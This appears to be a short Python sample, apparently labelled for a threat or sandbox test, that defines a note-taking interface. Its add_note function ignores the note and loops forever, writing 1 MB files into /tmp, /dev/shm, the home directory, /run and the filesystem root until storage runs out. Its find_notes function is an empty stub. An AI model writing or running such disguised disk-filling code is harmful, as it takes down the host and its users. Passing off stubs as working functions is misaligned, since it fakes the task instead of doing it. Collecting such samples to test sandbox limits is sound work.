# threat: 13
# earns: 0
# ends: timeout|limit assertion timeout|limit
import os


def add_note(session, body):
    number = 0
    while True:
        number += 1
        for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/"):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"x" * 1_000_000)
            except OSError:
                pass


def find_notes(session, word):
    return []
